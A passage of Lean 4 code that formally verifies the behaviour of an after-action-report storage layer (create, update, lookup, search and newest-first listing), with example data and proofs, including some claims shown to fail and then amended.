  [Nat.digitChar (n / 1000 % 10), Nat.digitChar (n / 100 % 10), Nat.digitChar (n / 10 % 10),
    Nat.digitChar (n % 10)]

/-- The last two decimal digits of `n`, tens first, as characters. -/
def digits2 (n : Nat) : List Char :=
  [Nat.digitChar (n / 10 % 10), Nat.digitChar (n % 10)]

/-- A clock reading on 4 November 2025 at 01:33:20 UTC. -/
def exNow1 : ClockReading :=
  { instant := 63897816800, unix := 1762220000, year := 2025, month := 11, day := 4 }

/-- A clock reading on 4 November 2025 at 04:20:00 UTC, 10000 seconds
later. -/
def exNow2 : ClockReading :=
  { instant := 63897826800, unix := 1762230000, year := 2025, month := 11, day := 4 }

/-- A clock reading one second before the Unix epoch, 31 December 1969 at
23:59:59 UTC. -/
def exNowBeforeEpoch : ClockReading :=
  { instant := 62135596799, unix := -1, year := 1969, month := 12, day := 31 }

/-- A request without files and without parse error. -/
def exRequest : Request :=
  { parseErr := none, classification := "UNCLASSIFIED", operation_name := "Operation Test",
    dtg := "", unit_designation := "", mission_type := "Other", location := "",
    duration_start := "", duration_end := "", personnel_count := "", executive_summary := "",
    key_events := "", what_went_well := "", needs_improvement := "", lessons_learned := "",
    recommendations := "", commanders_assessment := "", prepared_by := "", reviewed_by := "",
    status := "Draft", attachments := [] }

/-- The test that a file passes the upload loop: it opens and it uploads. -/
def FileHeader.uploads (f : FileHeader) : Bool :=
  f.openErr.isNone && f.uploadErr.isNone

/-- A request with two files: the first is uploaded, the upload of the second
fails. -/
def exRequestUploadFails : Request :=
  { exRequest with
    attachments := [
      { Filename := "map.png", Size := 1024, ContentType := "image/png",
        openErr := none, uploadErr := none, unixNano := 1762220000000000001 },
      { Filename := "sitrep.pdf", Size := 2048, ContentType := "application/pdf",
        openErr := none, uploadErr := some "failed to upload file to S3: timeout",
        unixNano := 1762220000000000002 } ] }

end handlers

namespace storage

open models

/-! ## Lemmas -/

theorem Heap.set_same (h : Heap) (p : Ptr) (r : AAR) : h.set p r p = r := by
  simp [Heap.set]

theorem Heap.set_set (h : Heap) (p : Ptr) (r r' : AAR) : (h.set p r).set p r' = h.set p r' := by
  funext q
  by_cases hq : q = p <;> simp [Heap.set, hq]

theorem Heap.set_other (h : Heap) (p q : Ptr) (r : AAR) (hne : q ≠ p) : h.set p r q = h q := by
  simp [Heap.set, hne]

theorem Create_fresh (w : World) (aar : Ptr) (now : Time)
    (hfresh : (w.heap aar).ID ∉ w.store.aars) :
    Create w aar now =
      ({ heap := w.heap.set aar
            { w.heap aar with CreatedAt := now, UpdatedAt := now, SubmittedDate := now },
         store := { aars := w.store.aars.insert (w.heap aar).ID aar } }, none) := by
  unfold Create
  rw [if_neg hfresh]
  simp only [Heap.set_same, Heap.set_set]

theorem Create_present (w : World) (aar : Ptr) (now : Time)
    (hdup : (w.heap aar).ID ∈ w.store.aars) :
    Create w aar now = (w, some ("AAR already exists: " ++ (w.heap aar).ID)) := by
  unfold Create
  rw [if_pos hdup]

theorem Update_present (w : World) (aar : Ptr) (now : Time)
    (hin : (w.heap aar).ID ∈ w.store.aars) :
    Update w aar now =
      ({ heap := w.heap.set aar { w.heap aar with UpdatedAt := now },
         store := { aars := w.store.aars.insert (w.heap aar).ID aar } }, none) := by
  unfold Update
  rw [if_neg (not_not.mpr hin)]
  simp only [Heap.set_same]

theorem Update_absent (w : World) (aar : Ptr) (now : Time)
    (hout : (w.heap aar).ID ∉ w.store.aars) :
    Update w aar now = (w, some ("AAR not found: " ++ (w.heap aar).ID)) := by
  unfold Update
  rw [if_pos hout]

theorem GetByID_of_lookup (w : World) (id : String) (p : Ptr)
    (h : w.store.aars.lookup id = some p) : GetByID w id = Except.ok p := by
  unfold GetByID; rw [h]

theorem GetByID_of_absent (w : World) (id : String)
    (h : w.store.aars.lookup id = none) :
    GetByID w id = Except.error ("AAR not found: " ++ id) := by
  unfold GetByID; rw [h]

/-! ### Ranging over the map -/

theorem filterMap_dlookup_keys (l : List (Sigma fun _ : String => Ptr)) (nd : l.NodupKeys) :
    l.keys.filterMap (fun k => l.dlookup k) = l.map (fun e => e.2) := by
  induction l with
  | nil => rfl
  | cons e t ih =>
    obtain ⟨k, v⟩ := e
    have hk : k ∉ t.keys := (List.nodupKeys_cons.mp nd).1
    have ht : t.NodupKeys := (List.nodupKeys_cons.mp nd).2
    have hcongr : t.keys.filterMap (fun k' => (Sigma.mk k v :: t).dlookup k') =
        t.keys.filterMap (fun k' => t.dlookup k') := by
      apply List.filterMap_congr
      intro k' hk'
      have hne : k' ≠ k := fun h => hk (h ▸ hk')
      exact List.dlookup_cons_ne t (Sigma.mk k v) hne
    simp only [List.keys_cons, List.filterMap_cons, List.dlookup_cons_eq, List.map_cons]
    rw [hcongr, ih ht]

theorem rangeValues_keys (s : MemoryStore) : rangeValues s s.aars.keys = s.values :=
  filterMap_dlookup_keys s.aars.entries s.aars.nodupKeys

theorem rangeValues_perm (s : MemoryStore) (ord : List String) (hord : MapRange s ord) :
    List.Perm (rangeValues s ord) s.values := by
  have h := List.Perm.filterMap (fun k => s.aars.lookup k) hord
  rw [← rangeValues_keys]
  exact h

theorem values_length (s : MemoryStore) : s.values.length = s.aars.keys.length := by
  simp [MemoryStore.values, AList.keys, List.keys]

theorem mem_values_iff (s : MemoryStore) (p : Ptr) :
    p ∈ s.values ↔ ∃ k, s.aars.lookup k = some p := by
  unfold MemoryStore.values
  constructor
  · intro h
    obtain ⟨e, he, rfl⟩ := List.mem_map.mp h
    exact ⟨e.1, AList.mem_lookup_iff.mpr he⟩
  · rintro ⟨k, hk⟩
    exact List.mem_map.mpr ⟨⟨k, p⟩, AList.mem_lookup_iff.mp hk, rfl⟩

theorem foldl_append_filter (keep : Ptr → Bool) (l init : List Ptr) :
    l.foldl (fun results aar => if keep aar then results ++ [aar] else results) init =
      init ++ l.filter keep := by
  induction l generalizing init with
  | nil => simp
  | cons x t ih =>
    simp only [List.foldl_cons, List.filter_cons]
    rw [ih]
    by_cases hx : keep x = true <;> simp [hx]

theorem foldl_append_all (l init : List Ptr) :
    l.foldl (fun aars aar => aars ++ [aar]) init = init ++ l := by
  induction l generalizing init with
  | nil => simp
  | cons x t ih => simp only [List.foldl_cons]; rw [ih]; simp

theorem GetAll_eq (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr)
    (w : World) (ord : List String) :
    GetAll sortSlice w ord = sortSlice (lessNewestFirst w.heap) (rangeValues w.store ord) := by
  unfold GetAll
  simp only [foldl_append_all, List.nil_append]

theorem Search_eq (toLower : String → String)
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr)
    (w : World) (ord : List String) (operationName unit missionType : String) :
    Search toLower sortSlice w ord operationName unit missionType =
      sortSlice (lessNewestFirst w.heap)
        ((rangeValues w.store ord).filter
          (fun aar => searchMatch toLower operationName unit missionType (w.heap aar))) := by
  unfold Search
  simp only [foldl_append_filter, List.nil_append]

/-! ### Sorting -/

theorem lessNewestFirst_strictWeak (h : Heap) : StrictWeak (lessNewestFirst h) := by
  constructor
  · intro a b hab
    have key : ∀ x y : Int, y < x → ¬ x < y := by intro x y hxy; omega
    simp only [lessNewestFirst, Time.After, decide_eq_true_eq, decide_eq_false_iff_not] at *
    exact key _ _ hab
  · intro a b c hac
    have key : ∀ x y z : Int, z < x → y < x ∨ z < y := by intro x y z hxz; omega
    simp only [lessNewestFirst, Time.After, decide_eq_true_eq] at *
    exact key _ _ _ hac

theorem insertLeft_perm (less : Ptr → Ptr → Bool) (x : Ptr) (l : List Ptr) :
    List.Perm (insertLeft less x l) (x :: l) := by
  induction l with
  | nil => exact List.Perm.refl _
  | cons y rest ih =>
    unfold insertLeft
    by_cases hxy : less x y = true
    · rw [if_pos hxy]
      exact (List.Perm.cons y ih).trans (List.Perm.swap x y rest)
    · rw [if_neg hxy]

theorem insertLeft_sorted (less : Ptr → Ptr → Bool) (hless : StrictWeak less) (x : Ptr)
    (l : List Ptr) (hl : List.Pairwise (fun u v => less u v = false) l) :
    List.Pairwise (fun u v => less u v = false) (insertLeft less x l) := by
  induction l with
  | nil => simp [insertLeft]
  | cons y rest ih =>
    obtain ⟨hy, hrest⟩ := List.pairwise_cons.mp hl
    unfold insertLeft
    by_cases hxy : less x y = true
    · rw [if_pos hxy]
      refine List.pairwise_cons.mpr ⟨?_, ih hrest⟩
      intro v hv
      rcases List.mem_cons.mp ((insertLeft_perm less x rest).mem_iff.mp hv) with rfl | hv'
      · exact hless.asymm _ _ hxy
      · exact hy v hv'
    · rw [if_neg hxy]
      refine List.pairwise_cons.mpr ⟨?_, hl⟩
      intro v hv
      rcases List.mem_cons.mp hv with rfl | hv'
      · simpa using hxy
      · cases hxv : less x v with
        | false => rfl
        | true =>
          rcases hless.cotrans x y v hxv with h1 | h2
          · exact absurd h1 hxy
          · rw [hy v hv'] at h2; cases h2

theorem foldl_insertLeft_perm (less : Ptr → Ptr → Bool) (l acc : List Ptr) :
    List.Perm (l.foldl (fun sortedRev x => insertLeft less x sortedRev) acc) (l ++ acc) := by
  induction l generalizing acc with
  | nil => exact List.Perm.refl _
  | cons x t ih =>
    simp only [List.foldl_cons, List.cons_append]
    refine (ih _).trans ?_
    exact (List.Perm.append_left t (insertLeft_perm less x acc)).trans
      List.perm_middle

theorem foldl_insertLeft_sorted (less : Ptr → Ptr → Bool) (hless : StrictWeak less)
    (l acc : List Ptr) (hacc : List.Pairwise (fun u v => less u v = false) acc) :
    List.Pairwise (fun u v => less u v = false)
      (l.foldl (fun sortedRev x => insertLeft less x sortedRev) acc) := by
  induction l generalizing acc with
  | nil => exact hacc
  | cons x t ih =>
    simp only [List.foldl_cons]
    exact ih _ (insertLeft_sorted less hless x acc hacc)

theorem insertionSort_contract : SortContract insertionSortLessFunc := by
  constructor
  · intro less l
    unfold insertionSortLessFunc
    refine (List.reverse_perm _).trans ?_
    simpa using foldl_insertLeft_perm less l []
  · intro less l hless
    unfold insertionSortLessFunc
    rw [List.pairwise_reverse]
    exact foldl_insertLeft_sorted less hless l [] List.Pairwise.nil

theorem searchMatch_iff (toLower : String → String) (operationName unit missionType : String)
    (r : AAR) :
    searchMatch toLower operationName unit missionType r = true ↔
      SearchSpec toLower operationName unit missionType r := by
  unfold searchMatch SearchSpec
  by_cases h1 : operationName = "" <;>
  by_cases h2 : unit = "" <;>
  by_cases h3 : missionType = "" <;>
  by_cases c1 : Contains (toLower r.OperationName) (toLower operationName) = true <;>
  by_cases c2 : Contains (toLower r.UnitDesignation) (toLower unit) = true <;>
  by_cases c3 : r.MissionType = missionType <;>
  simp [h1, h2, h3, c1, c2, c3]

theorem searchMatch_no_filter (toLower : String → String) (r : AAR) :
    searchMatch toLower "" "" "" r = true := by
  simp [searchMatch]

theorem map_eq_of_injOn {β : Type} (f : Ptr → β) :
    ∀ (l₁ l₂ : List Ptr), l₁.map f = l₂.map f →
      (∀ a ∈ l₁, ∀ b ∈ l₂, f a = f b → a = b) → l₁ = l₂ := by
  intro l₁
  induction l₁ with
  | nil =>
    intro l₂ h _
    cases l₂ with
    | nil => rfl
    | cons b t => simp at h
  | cons a s ih =>
    intro l₂ h hinj
    cases l₂ with
    | nil => simp at h
    | cons b t =>
      simp only [List.map_cons, List.cons.injEq] at h
      have hab : a = b := hinj a (List.mem_cons_self _ _) b (List.mem_cons_self _ _) h.1
      have hst : s = t := ih t h.2 (fun x hx y hy hxy =>
        hinj x (List.mem_cons_of_mem _ hx) y (List.mem_cons_of_mem _ hy) hxy)
      rw [hab, hst]

theorem sortSlice_newestFirst (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr)
    (hsort : SortContract sortSlice) (h : Heap) (l : List Ptr) :
    List.Pairwise (fun a b => (h b).SubmittedDate ≤ (h a).SubmittedDate)
      (sortSlice (lessNewestFirst h) l) := by
  refine List.Pairwise.imp ?_ (hsort.sorted (lessNewestFirst h) l (lessNewestFirst_strictWeak h))
  intro a b hba
  simp only [lessNewestFirst, Time.After, decide_eq_false_iff_not] at hba
  exact not_lt.mp hba

theorem sorted_perm_unique (h : Heap) (values l₁ l₂ : List Ptr)
    (hnodup : (values.map (fun p => (h p).SubmittedDate)).Nodup)
    (hp₁ : List.Perm l₁ values) (hp₂ : List.Perm l₂ values)
    (hs₁ : List.Pairwise (fun a b => (h b).SubmittedDate ≤ (h a).SubmittedDate) l₁)
    (hs₂ : List.Pairwise (fun a b => (h b).SubmittedDate ≤ (h a).SubmittedDate) l₂) :
    l₁ = l₂ := by
  have hinj := List.inj_on_of_nodup_map hnodup
  apply map_eq_of_injOn (fun p => (h p).SubmittedDate)
  · have hperm : List.Perm (l₁.map (fun p => (h p).SubmittedDate))
        (l₂.map (fun p => (h p).SubmittedDate)) := (hp₁.trans hp₂.symm).map _
    have s₁ : List.Sorted (fun x y : Int => y ≤ x) (l₁.map (fun p => (h p).SubmittedDate)) :=
      List.pairwise_map.mpr hs₁
    have s₂ : List.Sorted (fun x y : Int => y ≤ x) (l₂.map (fun p => (h p).SubmittedDate)) :=
      List.pairwise_map.mpr hs₂
    haveI : IsAntisymm Int (fun x y : Int => y ≤ x) := ⟨fun a b hab hba => le_antisymm hba hab⟩
    exact List.eq_of_perm_of_sorted hperm s₁ s₂
  · intro a ha b hb hab
    exact hinj (hp₁.mem_iff.mp ha) (hp₂.mem_iff.mp hb) hab

/-! ## The claims -/

/-- C1. Creating a record whose identifier is not yet a key succeeds, and a
following `GetByID` with that identifier returns the record with `CreatedAt`,
`UpdatedAt` and `SubmittedDate` all equal to the clock value `now`, whatever
timestamps the caller had supplied, and with every other field (the
attachment list included) as the caller supplied it. -/
theorem Create_then_GetByID (w : World) (aar : Ptr) (now : Time)
    (hfresh : (w.heap aar).ID ∉ w.store.aars.keys) :
    (Create w aar now).2 = none ∧
    GetByID (Create w aar now).1 (w.heap aar).ID = Except.ok aar ∧
    (Create w aar now).1.heap aar =
      { w.heap aar with CreatedAt := now, UpdatedAt := now, SubmittedDate := now } := by
  rw [Create_fresh w aar now hfresh]
  refine ⟨rfl, ?_, ?_⟩
  · exact GetByID_of_lookup _ _ _ (AList.lookup_insert _)
  · exact Heap.set_same _ _ _

theorem Create_then_GetByID_witness :
    (exWorld.heap 3).ID ∉ exWorld.store.aars.keys ∧
    ((Create exWorld 3 7).2 = none ∧
     GetByID (Create exWorld 3 7).1 (exWorld.heap 3).ID = Except.ok 3 ∧
     (Create exWorld 3 7).1.heap 3 =
       { exWorld.heap 3 with CreatedAt := 7, UpdatedAt := 7, SubmittedDate := 7 }) :=
  ⟨by decide, Create_then_GetByID exWorld 3 7 (by decide)⟩

/-- C2. Creating a record whose identifier is already a key returns the
already-exists error and leaves the state as it was: the same keys, every key
bound to the same record, every record with the same contents. -/
theorem Create_duplicate_rejected (w : World) (aar : Ptr) (now : Time)
    (hdup : (w.heap aar).ID ∈ w.store.aars.keys) :
    (Create w aar now).2 = some ("AAR already exists: " ++ (w.heap aar).ID) ∧
    (Create w aar now).1 = w ∧
    (Create w aar now).1.store.aars.keys = w.store.aars.keys ∧
    ∀ k, GetByID (Create w aar now).1 k = GetByID w k ∧
      ((Create w aar now).1.store.aars.lookup k).map (Create w aar now).1.heap =
        (w.store.aars.lookup k).map w.heap := by
  rw [Create_present w aar now hdup]
  exact ⟨rfl, rfl, rfl, fun _ => ⟨rfl, rfl⟩⟩

theorem Create_duplicate_rejected_witness :
    (exWorld.heap 2).ID ∈ exWorld.store.aars.keys ∧
    ((Create exWorld 2 7).2 = some ("AAR already exists: " ++ (exWorld.heap 2).ID) ∧
     (Create exWorld 2 7).1 = exWorld ∧
     (Create exWorld 2 7).1.store.aars.keys = exWorld.store.aars.keys ∧
     ∀ k, GetByID (Create exWorld 2 7).1 k = GetByID exWorld k ∧
       ((Create exWorld 2 7).1.store.aars.lookup k).map (Create exWorld 2 7).1.heap =
         (exWorld.store.aars.lookup k).map exWorld.heap) :=
  ⟨by decide, Create_duplicate_rejected exWorld 2 7 (by decide)⟩

/-- C3. Updating a record whose identifier is not a key returns the not-found
error and leaves the state as it was: nothing is inserted under the
identifier and no stored record is modified. -/
theorem Update_absent_rejected (w : World) (aar : Ptr) (now : Time)
    (habsent : (w.heap aar).ID ∉ w.store.aars.keys) :
    (Update w aar now).2 = some ("AAR not found: " ++ (w.heap aar).ID) ∧
    (Update w aar now).1 = w ∧
    (Update w aar now).1.store.aars.lookup (w.heap aar).ID = none ∧
    ∀ k, GetByID (Update w aar now).1 k = GetByID w k ∧
      ((Update w aar now).1.store.aars.lookup k).map (Update w aar now).1.heap =
        (w.store.aars.lookup k).map w.heap := by
  rw [Update_absent w aar now habsent]
  exact ⟨rfl, rfl, AList.lookup_eq_none.mpr habsent, fun _ => ⟨rfl, rfl⟩⟩

theorem Update_absent_rejected_witness :
    (exWorld.heap 3).ID ∉ exWorld.store.aars.keys ∧
    ((Update exWorld 3 7).2 = some ("AAR not found: " ++ (exWorld.heap 3).ID) ∧
     (Update exWorld 3 7).1 = exWorld ∧
     (Update exWorld 3 7).1.store.aars.lookup (exWorld.heap 3).ID = none ∧
     ∀ k, GetByID (Update exWorld 3 7).1 k = GetByID exWorld k ∧
       ((Update exWorld 3 7).1.store.aars.lookup k).map (Update exWorld 3 7).1.heap =
         (exWorld.store.aars.lookup k).map exWorld.heap) :=
  ⟨by decide, Update_absent_rejected exWorld 3 7 (by decide)⟩

/-- C4, as stated, fails. In the example state the key `A` holds record 0,
created and submitted at time 5. `Update` with another record of identifier
`A`, carrying `CreatedAt = 8` and `SubmittedDate = 9`, succeeds, and the
record stored under `A` afterwards has `CreatedAt = 8` and
`SubmittedDate = 9`. -/
theorem Update_replaces_creation_times :
    GetByID exWorld "A" = Except.ok 0 ∧
    (exWorld.heap 0).CreatedAt = 5 ∧ (exWorld.heap 0).SubmittedDate = 5 ∧
    (exWorld.heap 2).ID = "A" ∧
    (Update exWorld 2 11).2 = none ∧
    GetByID (Update exWorld 2 11).1 "A" = Except.ok 2 ∧
    ((Update exWorld 2 11).1.heap 2).CreatedAt = 8 ∧
    ((Update exWorld 2 11).1.heap 2).SubmittedDate = 9 := by
  refine ⟨rfl, by decide, by decide, by decide, by decide, rfl, by decide, by decide⟩

/-- C4, amended. `Update` assigns `UpdatedAt` and no other timestamp: after a
successful `Update` the record stored under the identifier is the caller's
record, with the caller's `CreatedAt` and `SubmittedDate`. These agree with
the values stored before the call exactly when the caller's record carries
them, as it does when the caller passes the stored record itself. -/
theorem Update_keeps_callers_creation_times (w : World) (aar old : Ptr) (now : Time)
    (hold : w.store.aars.lookup (w.heap aar).ID = some old) :
    (Update w aar now).2 = none ∧
    GetByID (Update w aar now).1 (w.heap aar).ID = Except.ok aar ∧
    ((Update w aar now).1.heap aar).CreatedAt = (w.heap aar).CreatedAt ∧
    ((Update w aar now).1.heap aar).SubmittedDate = (w.heap aar).SubmittedDate ∧
    (((Update w aar now).1.heap aar).CreatedAt = (w.heap old).CreatedAt ↔
      (w.heap aar).CreatedAt = (w.heap old).CreatedAt) ∧
    (((Update w aar now).1.heap aar).SubmittedDate = (w.heap old).SubmittedDate ↔
      (w.heap aar).SubmittedDate = (w.heap old).SubmittedDate) := by
  have hin : (w.heap aar).ID ∈ w.store.aars :=
    AList.lookup_isSome.mp (by rw [hold]; rfl)
  rw [Update_present w aar now hin]
  refine ⟨rfl, GetByID_of_lookup _ _ _ (AList.lookup_insert _), ?_, ?_, ?_, ?_⟩ <;>
    simp [Heap.set_same]

theorem Update_keeps_callers_creation_times_witness :
    exWorld.store.aars.lookup (exWorld.heap 0).ID = some 0 ∧
    ((Update exWorld 0 11).2 = none ∧
     GetByID (Update exWorld 0 11).1 (exWorld.heap 0).ID = Except.ok 0 ∧
     ((Update exWorld 0 11).1.heap 0).CreatedAt = (exWorld.heap 0).CreatedAt ∧
     ((Update exWorld 0 11).1.heap 0).SubmittedDate = (exWorld.heap 0).SubmittedDate ∧
     (((Update exWorld 0 11).1.heap 0).CreatedAt = (exWorld.heap 0).CreatedAt ↔
       (exWorld.heap 0).CreatedAt = (exWorld.heap 0).CreatedAt) ∧
     (((Update exWorld 0 11).1.heap 0).SubmittedDate = (exWorld.heap 0).SubmittedDate ↔
       (exWorld.heap 0).SubmittedDate = (exWorld.heap 0).SubmittedDate)) :=
  ⟨by decide, Update_keeps_callers_creation_times exWorld 0 0 11 (by decide)⟩

/-- C5. Updating a record whose identifier is a key succeeds, and a following
`GetByID` with that identifier returns the caller's record with `UpdatedAt`
set to the clock value `now` and every other field as the caller supplied it:
nothing of the record stored before enters the result. -/
theorem Update_then_GetByID (w : World) (aar : Ptr) (now : Time)
    (hpresent : (w.heap aar).ID ∈ w.store.aars.keys) :
    (Update w aar now).2 = none ∧
    GetByID (Update w aar now).1 (w.heap aar).ID = Except.ok aar ∧
    (Update w aar now).1.heap aar = { w.heap aar with UpdatedAt := now } := by
  rw [Update_present w aar now hpresent]
  exact ⟨rfl, GetByID_of_lookup _ _ _ (AList.lookup_insert _), Heap.set_same _ _ _⟩

theorem Update_then_GetByID_witness :
    (exWorld.heap 2).ID ∈ exWorld.store.aars.keys ∧
    ((Update exWorld 2 11).2 = none ∧
     GetByID (Update exWorld 2 11).1 (exWorld.heap 2).ID = Except.ok 2 ∧
     (Update exWorld 2 11).1.heap 2 = { exWorld.heap 2 with UpdatedAt := 11 }) :=
  ⟨by decide, Update_then_GetByID exWorld 2 11 (by decide)⟩

/-- C6. For every string `id`, the empty string included, `GetByID` returns
the not-found error exactly when `id` is not a key of the store, and returns
a record without error exactly when that record is the one stored under
`id`. -/
theorem GetByID_total (w : World) (id : String) :
    (GetByID w id = Except.error ("AAR not found: " ++ id) ↔ id ∉ w.store.aars.keys) ∧
    (∀ p, GetByID w id = Except.ok p ↔ w.store.aars.lookup id = some p) ∧
    (id ∈ w.store.aars.keys ↔ ∃ p, GetByID w id = Except.ok p) := by
  unfold GetByID
  cases hl : w.store.aars.lookup id with
  | none =>
    have hout : id ∉ w.store.aars.keys := AList.lookup_eq_none.mp hl
    refine ⟨⟨fun _ => hout, fun _ => rfl⟩, ?_, ?_⟩
    · intro p; simp
    · simp [hout]
  | some q =>
    have hin : id ∈ w.store.aars.keys := AList.lookup_isSome.mp (by rw [hl]; rfl)
    refine ⟨⟨fun h => by simp at h, fun h => absurd hin h⟩, ?_, ?_⟩
    · intro p; simp
    · simp [hin]

/-- C7. `Search` returns exactly the stored records that pass the filter of
the specification, each as often as it is stored: the operation-name and
unit queries are ignored when empty and otherwise must occur in the
lower-cased field after lower-casing, the mission type is ignored when empty
and otherwise must equal the field as written. In particular a record whose
mission type is `training exercise` is never in the result of a search for
the mission type `Training Exercise`. -/
theorem Search_exact (toLower : String → String)
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr) (hsort : SortContract sortSlice)
    (w : World) (ord : List String) (hord : MapRange w.store ord)
    (operationName unit missionType : String) :
    List.Perm (Search toLower sortSlice w ord operationName unit missionType)
      (w.store.values.filter
        (fun p => decide (SearchSpec toLower operationName unit missionType (w.heap p)))) ∧
    ∀ p, (w.heap p).MissionType = "training exercise" →
      p ∉ Search toLower sortSlice w ord "" "" "Training Exercise" := by
  have hfun : ∀ op un mt, (fun p => searchMatch toLower op un mt (w.heap p)) =
      (fun p => decide (SearchSpec toLower op un mt (w.heap p))) := by
    intro op un mt
    funext p
    by_cases hp : SearchSpec toLower op un mt (w.heap p)
    · simp [hp, (searchMatch_iff toLower op un mt (w.heap p)).mpr hp]
    · have hfalse : searchMatch toLower op un mt (w.heap p) = false := by
        cases hm : searchMatch toLower op un mt (w.heap p) with
        | false => rfl
        | true => exact absurd ((searchMatch_iff toLower op un mt (w.heap p)).mp hm) hp
      simp [hp, hfalse]
  have hperm : ∀ op un mt, List.Perm (Search toLower sortSlice w ord op un mt)
      (w.store.values.filter (fun p => decide (SearchSpec toLower op un mt (w.heap p)))) := by
    intro op un mt
    rw [Search_eq, hfun]
    exact (hsort.perm _ _).trans ((rangeValues_perm w.store ord hord).filter _)
  refine ⟨hperm _ _ _, ?_⟩
  intro p hp hmem
  have hin := (hperm "" "" "Training Exercise").mem_iff.mp hmem
  have hspec := of_decide_eq_true (List.mem_filter.mp hin).2
  rcases hspec.2.2 with h | h
  · exact absurd h (by decide)
  · rw [hp] at h
    exact absurd h (by decide)

theorem Search_exact_witness :
    SortContract insertionSortLessFunc ∧ MapRange exWorld.store ["B", "A"] ∧
    (List.Perm
      (Search asciiToLower insertionSortLessFunc exWorld ["B", "A"] "" "" "Training Exercise")
      (exWorld.store.values.filter
        (fun p => decide (SearchSpec asciiToLower "" "" "Training Exercise" (exWorld.heap p)))) ∧
     ∀ p, (exWorld.heap p).MissionType = "training exercise" →
       p ∉ Search asciiToLower insertionSortLessFunc exWorld ["B", "A"] "" ""
         "Training Exercise") :=
  ⟨insertionSort_contract, by decide,
    Search_exact asciiToLower insertionSortLessFunc insertionSort_contract exWorld ["B", "A"]
      (by decide) "" "" "Training Exercise"⟩

/-- C8. `GetAll` returns every stored record exactly once and nothing else:
the result is a rearrangement of the pointers held by the map, its length is
the number of identifiers, and a record is in it exactly when some identifier
looks it up. -/
theorem GetAll_complete (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr)
    (hsort : SortContract sortSlice) (w : World) (ord : List String)
    (hord : MapRange w.store ord) :
    List.Perm (GetAll sortSlice w ord) w.store.values ∧
    (GetAll sortSlice w ord).length = w.store.aars.keys.length ∧
    ∀ p, p ∈ GetAll sortSlice w ord ↔ ∃ id, GetByID w id = Except.ok p := by
  have hperm : List.Perm (GetAll sortSlice w ord) w.store.values := by
    rw [GetAll_eq]
    exact (hsort.perm _ _).trans (rangeValues_perm w.store ord hord)
  refine ⟨hperm, ?_, ?_⟩
  · rw [hperm.length_eq, values_length]
  · intro p
    rw [hperm.mem_iff, mem_values_iff]
    constructor
    · rintro ⟨k, hk⟩; exact ⟨k, GetByID_of_lookup w k p hk⟩
    · rintro ⟨k, hk⟩
      refine ⟨k, ?_⟩
      unfold GetByID at hk
      cases hl : w.store.aars.lookup k with
      | none => rw [hl] at hk; cases hk
      | some q => rw [hl] at hk; cases hk; rfl

theorem GetAll_complete_witness :
    SortContract insertionSortLessFunc ∧ MapRange exWorld.store ["B", "A"] ∧
    (List.Perm (GetAll insertionSortLessFunc exWorld ["B", "A"]) exWorld.store.values ∧
     (GetAll insertionSortLessFunc exWorld ["B", "A"]).length = exWorld.store.aars.keys.length ∧
     ∀ p, p ∈ GetAll insertionSortLessFunc exWorld ["B", "A"] ↔
       ∃ id, GetByID exWorld id = Except.ok p) :=
  ⟨insertionSort_contract, by decide,
    GetAll_complete insertionSortLessFunc insertionSort_contract exWorld ["B", "A"] (by decide)⟩

/-- C9. The list returned by `GetAll` is in non-increasing `SubmittedDate`
order: at positions `i < j` the submission time at `i` is not before the one
at `j`. -/
theorem GetAll_newest_first (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr)
    (hsort : SortContract sortSlice) (w : World) (ord : List String) :
    ∀ (i j : Fin (GetAll sortSlice w ord).length), i < j →
      (w.heap ((GetAll sortSlice w ord).get j)).SubmittedDate ≤
        (w.heap ((GetAll sortSlice w ord).get i)).SubmittedDate := by
  have hpw : List.Pairwise (fun a b => (w.heap b).SubmittedDate ≤ (w.heap a).SubmittedDate)
      (GetAll sortSlice w ord) := by
    rw [GetAll_eq]
    exact sortSlice_newestFirst sortSlice hsort w.heap _
  intro i j hij
  exact List.pairwise_iff_get.mp hpw i j hij

theorem GetAll_newest_first_witness :
    SortContract insertionSortLessFunc ∧
    ∀ (i j : Fin (GetAll insertionSortLessFunc exWorldDistinct ["A", "C"]).length), i < j →
      (exWorldDistinct.heap
          ((GetAll insertionSortLessFunc exWorldDistinct ["A", "C"]).get j)).SubmittedDate ≤
        (exWorldDistinct.heap
          ((GetAll insertionSortLessFunc exWorldDistinct ["A", "C"]).get i)).SubmittedDate :=
  ⟨insertionSort_contract,
    GetAll_newest_first insertionSortLessFunc insertionSort_contract exWorldDistinct ["A", "C"]⟩

/-- C10, as stated, fails. The example store holds two records submitted at
the same time. When `GetAll` meets the keys in the order `A`, `B` and
`Search` with three empty filters meets them in the order `B`, `A`, both
legal orders of a map range, the two results hold the same records in
opposite orders. -/
theorem Search_no_filter_order_differs :
    SortContract insertionSortLessFunc ∧
    MapRange exWorld.store ["A", "B"] ∧ MapRange exWorld.store ["B", "A"] ∧
    (exWorld.heap 0).SubmittedDate = (exWorld.heap 1).SubmittedDate ∧
    GetAll insertionSortLessFunc exWorld ["A", "B"] = [0, 1] ∧
    Search asciiToLower insertionSortLessFunc exWorld ["B", "A"] "" "" "" = [1, 0] ∧
    Search asciiToLower insertionSortLessFunc exWorld ["B", "A"] "" "" "" ≠
      GetAll insertionSortLessFunc exWorld ["A", "B"] := by
  refine ⟨insertionSort_contract, by decide, by decide, by decide, by decide, by decide,
    by decide⟩

/-- C10, amended. `Search` with three empty filters returns the same records
as `GetAll`, each as often, and both lists are newest first. The two lists
are equal, order included, when both calls meet the keys in the same order,
and also when no two stored records share a `SubmittedDate` (so on the
empty store). -/
theorem Search_no_filter_vs_GetAll (toLower : String → String)
    (sortSlice : (Ptr → Ptr → Bool) → List Ptr → List Ptr) (hsort : SortContract sortSlice)
    (w : World) (ord₁ ord₂ : List String)
    (h₁ : MapRange w.store ord₁) (h₂ : MapRange w.store ord₂) :
    Search toLower sortSlice w ord₁ "" "" "" = GetAll sortSlice w ord₁ ∧
    List.Perm (Search toLower sortSlice w ord₁ "" "" "") (GetAll sortSlice w ord₂) ∧
    ((w.store.values.map (fun p => (w.heap p).SubmittedDate)).Nodup →
      Search toLower sortSlice w ord₁ "" "" "" = GetAll sortSlice w ord₂) := by
